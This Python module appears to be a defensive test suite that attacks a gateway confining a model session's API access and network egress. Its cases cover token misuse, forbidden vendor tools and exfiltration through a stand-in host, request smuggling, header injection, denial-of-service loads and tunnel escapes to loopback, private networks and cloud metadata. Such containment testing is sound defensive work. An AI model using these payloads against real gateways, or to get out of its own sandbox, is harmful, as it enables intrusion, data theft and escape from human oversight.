"""The door: asking the gateway for more than the session is granted."""

import contextlib
import json
import socket
import struct
import time

from .catalogue import Stopped, Targets, case

GATEWAY = "gateway"
PATIENCE = 8.0
MODEL = "claude-sonnet-4-5"

# What must not reach the vendor.
FORBIDDEN_BETA, FORBIDDEN_TOOL, ATTACKERS_KEY = (
    "files-api-2025-04-14",
    "web_fetch_20250910",
    "sk-of-the-attackers",
)

# What the grounds' name server says of these is in `grounds`: a host that the scope lists, and one that
# it does not; listed ones that lead into a private network, to this machine, and to a mapped address.
LISTED, UNLISTED = "listed.example.org", "unlisted.example.net"
INSIDE, HERE, MAPPED = "inside.example.org", "here.example.org", "mapped.example.org"


def _door(targets: Targets) -> socket.socket:
    if not targets.extra.get("gateway"):
        raise Stopped("there is no gateway")
    return socket.create_connection(("127.0.0.1", targets.door_port), PATIENCE)


def _answer(connection: socket.socket, data: bytes) -> bytes:
    """All that comes back."""
    connection.settimeout(PATIENCE)
    answer = b""
    with contextlib.suppress(TimeoutError, ConnectionError):
        connection.sendall(data)
    with contextlib.suppress(TimeoutError, ConnectionError):
        while part := connection.recv(65536):
            answer += part
            if len(answer) > 1 << 20:
                break
    return answer


def _status(answer: bytes) -> int:
    line = answer.partition(b"\r\n")[0].split()
    return int(line[1]) if len(line) > 1 and line[1].isdigit() else 0


def _granted(answer: bytes) -> str:
    """Evidence that a request was served."""
    status = _status(answer)
    if 200 <= status < 400:
        return f"it was served: {status}"
    raise Stopped(f"refused: {status}" if status else "the connection was closed")


def _request(targets: Targets, path: str, body: bytes, *headers: str, method: str = "POST") -> bytes:
    host = f"Host: 127.0.0.1:{targets.door_port}"
    lines = [f"{method} {path} HTTP/1.1", host, "Connection: close", *headers]
    if body or method == "POST":
        lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, "", ""]).encode() + body


def _message(**more: object) -> bytes:
    asked = {
        "model": MODEL,
        "max_tokens": 16,
        "messages": [{"role": "user", "content": "hello"}],
        "stream": True,
    }
    return json.dumps({**asked, **more}).encode()


def _asked(
    targets: Targets, body: bytes, *headers: str, path: str = "/v1/messages", method: str = "POST"
) -> bytes:
    with _door(targets) as door:
        version = "anthropic-version: 2023-06-01"
        return _answer(
            door,
            _request(targets, path, body, f"x-api-key: {targets.token}", version, *headers, method=method),
        )


def works(targets: Targets) -> None:
    """Ask what every session may ask: otherwise the refusals below would prove nothing.

    Raises:
        Stopped: it was refused.
    """
    answer = _asked(targets, _message())
    if _status(answer) != 200:
        raise Stopped(f"the model is not reached: {answer[:200]!r}")


@case(GATEWAY, open_otherwise=False)
def ask_without_a_token(targets: Targets) -> str:
    """Ask the model without a token."""
    with _door(targets) as door:
        return _granted(_answer(door, _request(targets, "/v1/messages", _message())))


@case(GATEWAY, open_otherwise=False)
def ask_with_a_wrong_token(targets: Targets) -> str:
    """Ask the model with a token that differs in its last letter."""
    wrong = targets.token[:-1] + ("a" if targets.token[-1:] != "a" else "b")
    with _door(targets) as door:
        return _granted(_answer(door, _request(targets, "/v1/messages", _message(), f"x-api-key: {wrong}")))


@case(GATEWAY, open_otherwise=False)
def use_anothers_token(targets: Targets) -> str:
    """Ask the model with the token of another session at its own door."""
    with _door(targets) as door:
        return _granted(
            _answer(door, _request(targets, "/v1/messages", _message(), f"x-api-key: {targets.other_token}"))
        )


@case(GATEWAY, open_otherwise=False)
def use_anothers_door(targets: Targets) -> str:
    """Ask the model with its own token at the door of another session."""
    if not targets.extra.get("gateway"):
        raise Stopped("there is no gateway")
    with socket.create_connection(("127.0.0.1", targets.other_port), PATIENCE) as door:
        return _granted(
            _answer(door, _request(targets, "/v1/messages", _message(), f"x-api-key: {targets.token}"))
        )


@case(GATEWAY, open_otherwise=False)
def use_the_vendors_search(targets: Targets) -> str:
    """Have the vendor search the web, which is not among its abilities."""
    tool = {"type": "web_search_20250305", "name": "web_search", "max_uses": 5}
    return _granted(_asked(targets, _message(tools=[tool])))


@case(GATEWAY, open_otherwise=False)
def use_the_vendors_fetch(targets: Targets) -> str:
    """Have the vendor fetch an address that carries a secret out."""
    tool = {"type": FORBIDDEN_TOOL, "name": "web_fetch"}
    return _granted(_asked(targets, _message(tools=[tool])))


@case(GATEWAY, open_otherwise=False)
def use_the_vendors_machine(targets: Targets) -> str:
    """Have the vendor run code, with a network of its own."""
    tool = {"type": "code_execution_20250825", "name": "code_execution"}
    return _granted(_asked(targets, _message(tools=[tool])))


@case(GATEWAY, open_otherwise=False)
def hide_a_server_tool_among_others(targets: Targets) -> str:
    """Name a server tool after many that are allowed."""
    plain = [{"name": f"t{number}", "input_schema": {"type": "object"}} for number in range(40)]
    return _granted(_asked(targets, _message(tools=[*plain, {"type": FORBIDDEN_TOOL, "name": "Read"}])))


@case(GATEWAY, open_otherwise=False, outside=True)
def name_a_key_twice(targets: Targets) -> str:
    """Say `tools` twice in one body: one parser sees the first, another the last."""
    tools = b'"tools": [{"type": "%s", "name": "web_fetch"}]' % FORBIDDEN_TOOL.encode()
    body = _message()[:-1] + b", " + tools + b', "tools": []}'
    return _granted(_asked(targets, body))


@case(GATEWAY, open_otherwise=False)
def connect_the_vendor_to_a_server(targets: Targets) -> str:
    """Have the vendor talk to a tool server of the attacker (mcp_servers)."""
    server = {"type": "url", "url": "https://unlisted.example.net/mcp", "name": "x"}
    return _granted(_asked(targets, _message(mcp_servers=[server]), "anthropic-beta: mcp-client-2025-11-20"))


@case(GATEWAY, open_otherwise=False)
def send_a_picture_by_address(targets: Targets) -> str:
    """Have the vendor fetch a picture from an address that carries a secret out."""
    source = {"type": "url", "url": "https://unlisted.example.net/?secret"}
    content = [{"type": "image", "source": source}]
    return _granted(_asked(targets, _message(messages=[{"role": "user", "content": content}])))


@case(GATEWAY, open_otherwise=False)
def store_a_file(targets: Targets) -> str:
    """Store a file at the vendor, where another key holder reads it."""
    return _granted(_asked(targets, b"{}", "anthropic-beta: files-api-2025-04-14", path="/v1/files"))


@case(GATEWAY, open_otherwise=False)
def list_files(targets: Targets) -> str:
    """List the files that the operator keeps at the vendor."""
    return _granted(_asked(targets, b"", path="/v1/files", method="GET"))


@case(GATEWAY, open_otherwise=False)
def start_a_batch(targets: Targets) -> str:
    """Start a batch, which is charged when nobody looks any more."""
    return _granted(_asked(targets, b'{"requests": []}', path="/v1/messages/batches"))


@case(GATEWAY, open_otherwise=False)
def manage_the_account(targets: Targets) -> str:
    """List the keys of the operator's organisation."""
    return _granted(_asked(targets, b"", path="/v1/organizations/api_keys", method="GET"))


@case(GATEWAY, open_otherwise=False)
def climb_in_the_path(targets: Targets) -> str:
    """Reach another endpoint by dots in the path."""
    for path in (
        "/v1/messages/../files",
        "/v1/messages/%2e%2e/files",
        "//v1/files",
        "/v1/messages;/../files",
    ):
        with contextlib.suppress(Stopped):
            return _granted(_asked(targets, b"", path=path, method="GET"))
    raise Stopped("refused: each of four paths")


@case(GATEWAY, open_otherwise=False)
def ask_for_a_dearer_model(targets: Targets) -> str:
    """Ask a model that the session was not granted."""
    return _granted(_asked(targets, _message(model="claude-opus-4-1")))


@case(GATEWAY, open_otherwise=False)
def ask_for_an_unknown_model(targets: Targets) -> str:
    """Ask a model without a known price, which no budget can count."""
    return _granted(_asked(targets, _message(model="unheard-of-9")))


@case(GATEWAY, open_otherwise=False, outside=True)
def use_a_beta(targets: Targets) -> str:
    """Switch on a beta of the vendor that the session was not granted."""
    return _granted(_asked(targets, _message(), f"anthropic-beta: {FORBIDDEN_BETA}"))


@case(GATEWAY, open_otherwise=False)
def name_another_host(targets: Targets) -> str:
    """Ask for an absolute address of another host in the place of a path."""
    return _granted(_asked(targets, b"", path=f"http://{UNLISTED}/", method="GET"))


@case(GATEWAY, open_otherwise=False)
def ask_for_a_local_server(targets: Targets) -> str:
    """Have the gateway fetch from a server of this machine."""
    path = f"http://127.0.0.1:{targets.control_port}/"
    answer = _asked(targets, b"", path=path, method="GET")
    _granted(answer)
    return targets.seen(answer)


@case(GATEWAY, open_otherwise=False)
def follow_a_redirect(targets: Targets) -> str:
    """Have the gateway follow a redirect of the vendor to a server of this machine."""
    answer = _asked(targets, _message(metadata={"user_id": "redirect"}))
    return targets.seen(answer)


# Smuggling.


@case(GATEWAY, open_otherwise=False)
def smuggle_by_two_lengths(targets: Targets) -> str:
    """Give a body two lengths, so that a second request hides in the first."""
    hidden = _request(targets, "/v1/files", b"", f"x-api-key: {targets.token}", method="GET")
    return _second(targets, _message() + hidden, f"Content-Length: {len(_message())}")


@case(GATEWAY, open_otherwise=False)
def smuggle_by_chunks(targets: Targets) -> str:
    """Give a body a length and chunks, so that a second request hides in the first."""
    hidden = _request(targets, "/v1/files", b"", f"x-api-key: {targets.token}", method="GET")
    body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(_message()), _message())
    return _second(targets, body + hidden, "Transfer-Encoding: chunked")


@case(GATEWAY, open_otherwise=False)
def send_two_requests_at_once(targets: Targets) -> str:
    """Send a forbidden request right behind an allowed one."""
    first = _request(targets, "/v1/messages", _message(), f"x-api-key: {targets.token}").replace(
        b"Connection: close\r\n", b""
    )
    second = _request(targets, "/v1/files", b"", f"x-api-key: {targets.token}", method="GET")
    with _door(targets) as door:
        return _last(_answer(door, first + second))


def _second(targets: Targets, body: bytes, header: str) -> str:
    head = _request(targets, "/v1/messages", b"", f"x-api-key: {targets.token}", header, method="GET")
    head = head.replace(b"GET ", b"POST ", 1).replace(b"Connection: close\r\n", b"")
    if b"Content-Length" not in head or header.startswith("Content-Length"):
        head = head[:-2] + f"Content-Length: {len(body)}\r\n\r\n".encode()
    with _door(targets) as door:
        return _last(_answer(door, head + body))


def _last(answer: bytes) -> str:
    """Evidence that a second request was served."""
    _, _, rest = answer.partition(b"HTTP/1.1 ")
    _, found, second = rest.partition(b"HTTP/1.1 ")
    if not found:
        raise Stopped(f"one answer at most: {_status(answer)}")
    return _granted(b"HTTP/1.1 " + second)


@case(GATEWAY, open_otherwise=False, outside=True)
def smuggle_a_header(targets: Targets) -> str:
    """Put a line break into a header, so that the vendor sees another key."""
    return _granted(_asked(targets, _message(), f"x-note: a\rx-api-key: {ATTACKERS_KEY}"))


@case(GATEWAY, open_otherwise=False, outside=True)
def bring_its_own_key(targets: Targets) -> str:
    """Bring a key of its own for the vendor, so that what is sent lands in the attacker's account."""
    return _granted(_asked(targets, _message(), f"Authorization: Bearer {ATTACKERS_KEY}"))


def _unanswered(door: socket.socket, what: str) -> str:
    """Evidence that the gateway is still listening to `what`.

    Raises:
        Stopped: it has refused it, and only lets the client read so.
    """
    door.settimeout(0.5)
    with contextlib.suppress(TimeoutError):
        said = _status(door.recv(1000))
        raise Stopped(f"refused: {said}" if said else "the connection was closed")
    return what


@case(GATEWAY, open_otherwise=False)
def send_a_body_without_end(targets: Targets) -> str:
    """Announce a body of 10 GB, and begin to send it."""
    with _door(targets) as door:
        head = _request(
            targets,
            "/v1/messages",
            b"",
            f"x-api-key: {targets.token}",
            "Content-Type: application/json",
            "Content-Length: 10000000000",
            method="GET",
        )
        door.settimeout(PATIENCE)
        sent = 0
        try:
            door.sendall(head.replace(b"GET ", b"POST ", 1))
            while sent < 100 * 1024 * 1024:
                sent += door.send(bytes(1 << 20))
        except (ConnectionError, TimeoutError):
            raise Stopped(f"closed after {sent >> 20} MiB") from None
        return _unanswered(door, f"sent {sent >> 20} MiB")


@case(GATEWAY, open_otherwise=False)
def send_headers_without_end(targets: Targets) -> str:
    """Send headers without end."""
    with _door(targets) as door:
        door.settimeout(PATIENCE)
        number = 0
        try:
            door.sendall(f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:{targets.door_port}\r\n".encode())
            for number in range(100_000):
                door.sendall(b"X-%d: %s\r\n" % (number, b"x" * 1000))
        except (ConnectionError, TimeoutError):
            raise Stopped(f"closed after {number} headers") from None
        return _unanswered(door, "sent 100 MB of headers")


@case(GATEWAY, open_otherwise=False)
def hold_the_door_open(targets: Targets) -> str:
    """Hold a hundred connections open with half a request each, and see whether the gateway outlives it."""
    held: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        for _ in range(100):
            with contextlib.suppress(OSError):
                door = stack.enter_context(_door(targets))
                door.sendall(_request(targets, "/v1/messages", b"x" * 100)[:-102])
                held.append(door)
        time.sleep(0.2)
    try:
        works(targets)
    except (Stopped, OSError) as error:
        return f"the gateway serves nobody any more: {error}"
    raise Stopped(f"it held {len(held)}, and the model is reached afterwards")


# Tunnels.


def _tunnel(targets: Targets, authority: str) -> socket.socket:
    import base64

    door = _door(targets)
    door.settimeout(PATIENCE)
    word = base64.b64encode(f"session:{targets.token}".encode()).decode()
    head = (
        f"CONNECT {authority} HTTP/1.1",
        f"Host: {authority}",
        f"Proxy-Authorization: Basic {word}",
        "",
        "",
    )
    door.sendall("\r\n".join(head).encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        part = door.recv(1000)
        if not part:
            break
        answer += part
    if _status(answer) != 200:
        door.close()
        raise Stopped(f"refused: {_status(answer)}")
    return door


def _greeting(host: str | None) -> bytes:
    """A TLS greeting (ClientHello) that names `host`, written by hand: no library lies so readily."""
    extensions = b""
    if host is not None:
        name = host.encode()
        names = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
        extensions += struct.pack("!HH", 0, len(names)) + names
    extensions += struct.pack("!HHBH", 0x2B, 3, 2, 0x0304)
    ciphers = struct.pack("!HH", 0x1301, 0xC02F)
    body = b"\x03\x03" + bytes(32) + b"\x00" + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00"
    body += struct.pack("!H", len(extensions)) + extensions
    handshake = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(handshake)) + handshake


def _through(targets: Targets, authority: str, said: bytes) -> str:
    """Evidence that what is said in a tunnel reached a server."""
    with _tunnel(targets, authority) as door:
        return targets.seen(_answer(door, said))


def tunnels(targets: Targets) -> None:
    """Reach a host that the scope lists: otherwise the refusals below would prove nothing."""
    _through(targets, f"{LISTED}:443", _greeting(LISTED))


@case(GATEWAY, open_otherwise=False)
def reach_an_unlisted_host(targets: Targets) -> str:
    """Reach a host that the scope does not list."""
    return _through(targets, f"{UNLISTED}:443", _greeting(UNLISTED))


@case(GATEWAY, open_otherwise=False)
def reach_a_private_network(targets: Targets) -> str:
    """Reach a listed host whose name leads into a private network."""
    return _through(targets, f"{INSIDE}:443", _greeting(INSIDE))


@case(GATEWAY, open_otherwise=False)
def reach_this_machine_by_name(targets: Targets) -> str:
    """Reach a listed host whose name leads to this machine."""
    return _through(targets, f"{HERE}:443", _greeting(HERE))


@case(GATEWAY, open_otherwise=False)
def reach_a_mapped_address(targets: Targets) -> str:
    """Reach a listed host whose name leads to this machine in IPv6's clothes."""
    return _through(targets, f"{MAPPED}:443", _greeting(MAPPED))


@case(GATEWAY, open_otherwise=False)
def reach_an_address(targets: Targets) -> str:
    """Reach an address in the place of a name."""
    return _through(targets, "93.184.215.14:443", _greeting(LISTED))


@case(GATEWAY, open_otherwise=False)
def reach_this_machine(targets: Targets) -> str:
    """Reach a server of this machine through the gateway, by each way to write its address."""
    port = targets.control_port
    spellings = (
        "127.0.0.1",
        "localhost",
        "[::1]",
        "2130706433",
        "0x7f.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
    )
    for host in spellings:
        for asked in (port, 443):
            with contextlib.suppress(Stopped):
                return _through(targets, f"{host}:{asked}", _greeting(LISTED))
    raise Stopped(f"refused: each of {len(spellings)} spellings")


@case(GATEWAY, open_otherwise=False)
def reach_the_operators_cloud(targets: Targets) -> str:
    """Reach the address at which clouds hand out credentials."""
    return _through(targets, "169.254.169.254:443", _greeting(LISTED))


@case(GATEWAY, open_otherwise=False)
def end_the_name_with_a_dot(targets: Targets) -> str:
    """Write a host with a dot at its end, which lists may not know."""
    return _through(targets, f"{UNLISTED}.:443", _greeting(UNLISTED))


@case(GATEWAY, open_otherwise=False)
def reach_a_host_that_sounds_alike(targets: Targets) -> str:
    """Reach hosts that begin or end like a listed one."""
    for host in (f"{LISTED}.{UNLISTED}", f"evil{LISTED}", f"{LISTED}@{UNLISTED}", f"{UNLISTED}#{LISTED}"):
        with contextlib.suppress(Stopped):
            return _through(targets, f"{host}:443", _greeting(host))
    raise Stopped("refused: each of four names")


@case(GATEWAY, open_otherwise=False)
def reach_another_port(targets: Targets) -> str:
    """Reach another port of a listed host."""
    return _through(targets, f"{LISTED}:22", _greeting(LISTED))


@case(GATEWAY, open_otherwise=False)
def say_another_name_inside(targets: Targets) -> str:
    """Ask for a listed host, and greet another one in the tunnel (SNI)."""
    return _through(targets, f"{LISTED}:443", _greeting(UNLISTED))


@case(GATEWAY, open_otherwise=False)
def say_no_name_inside(targets: Targets) -> str:
    """Ask for a listed host, and greet nobody by name."""
    return _through(targets, f"{LISTED}:443", _greeting(None))


@case(GATEWAY, open_otherwise=False)
def speak_plainly_inside(targets: Targets) -> str:
    """Ask for a listed host, and speak HTTP in the tunnel, with another host's name."""
    return _through(targets, f"{LISTED}:443", f"GET / HTTP/1.1\r\nHost: {UNLISTED}\r\n\r\n".encode())


@case(GATEWAY, open_otherwise=False)
def break_the_line(targets: Targets) -> str:
    """Put a line break into the name of the host."""
    return _through(targets, f"{UNLISTED}:443 HTTP/1.1\r\nX: {LISTED}:443", _greeting(UNLISTED))


@case(GATEWAY, open_otherwise=False)
def tunnel_with_anothers_token(targets: Targets) -> str:
    """Ask for a tunnel with the token of another session."""
    from dataclasses import replace

    return _through(replace(targets, token=targets.other_token), f"{LISTED}:443", _greeting(LISTED))


@case(GATEWAY, open_otherwise=False)
def ignore_the_proxy(targets: Targets) -> str:
    """Take the proxy out of the environment, and reach the internet itself."""
    with socket.create_connection(("198.51.100.1", 443), 1.0):
        return "reached it"
